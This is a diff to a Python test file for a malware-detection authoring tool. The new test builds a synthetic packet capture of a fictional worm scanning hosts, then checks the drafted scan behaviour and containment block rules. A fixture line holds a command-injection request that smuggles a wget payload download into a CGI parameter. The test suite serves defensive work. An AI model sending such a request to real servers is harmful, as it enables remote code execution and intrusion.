@@ -3,6 +3,7 @@ import random
 from datetime import date
 from pathlib import Path
 
+import msgspec.yaml
 import pytest
 
 from codered.authoring.drafting import draft_pack
@@ -19,6 +20,7 @@ from codered.scan.example_scan import scan_example
 from codered.scan.request import ScanRequest
 from codered.scan.run import scan
 from codered.targets import open_target
+from tests.fixtures.capture_files import frame, make_connection, write_pcap
 
 MARKERS = (b"ZorkWorm.spreadOnce", b"/var/tmp/.zorkd/lock", b"Greetings from Zorkland", b"zork_task_runner")
 REQUEST = "GET /cgi-bin/zork.cgi?c=wget+http://203.0.113.9/z HTTP/1.1"
@@ -97,6 +99,25 @@ def test_memory_alone_gives_a_rule_for_memory(evidence: Path) -> None:
     drafted = draft(evidence, "host.vmem", clean=False)
     assert "examples/hit/running-1.memory.yaml" in drafted.files
     assert "rule zork_body" not in drafted.files["rules.yar"].decode()
+
+
+@pytest.mark.parametrize("sent", [b"GET /zork/gate.cgi?n=%d HTTP/1.0\r\n\r\n", b"\x01\xfeZORK-HELLO\xee\x02 %d"])
+def test_a_capture_gives_behaviour_and_what_is_sent(evidence: Path, sent: bytes) -> None:
+    talk = [
+        (at, frame(packet))
+        for number in range(1, 30)
+        for at, packet in make_connection(
+            ("198.51.100.7", 1000 + number), (f"203.0.113.{number}", 8081), float(number), sent=[sent % (number * 7)]
+        )
+    ]
+    write_pcap(evidence / "talk.pcap", talk)
+    drafted = draft(evidence, "talk.pcap")
+    pack = msgspec.yaml.decode(drafted.files["pack.yaml"])
+    assert pack["scan_behaviour"]["ports"] == [8081]
+    assert pack["scan_behaviour"]["addresses"] == [{"share": 1.0, "within": "sequential"}]
+    assert pack["containment"]["block"][0]["ports"] == [8081]
+    expected = msgspec.json.decode(drafted.files["expected.json"])
+    assert [item["indicator"] for item in expected["hit/sent.traffic.yaml"]] == ["sent-8081"]
 
 
 def test_what_can_not_be_drafted_is_refused_with_the_reason(evidence: Path) -> None:
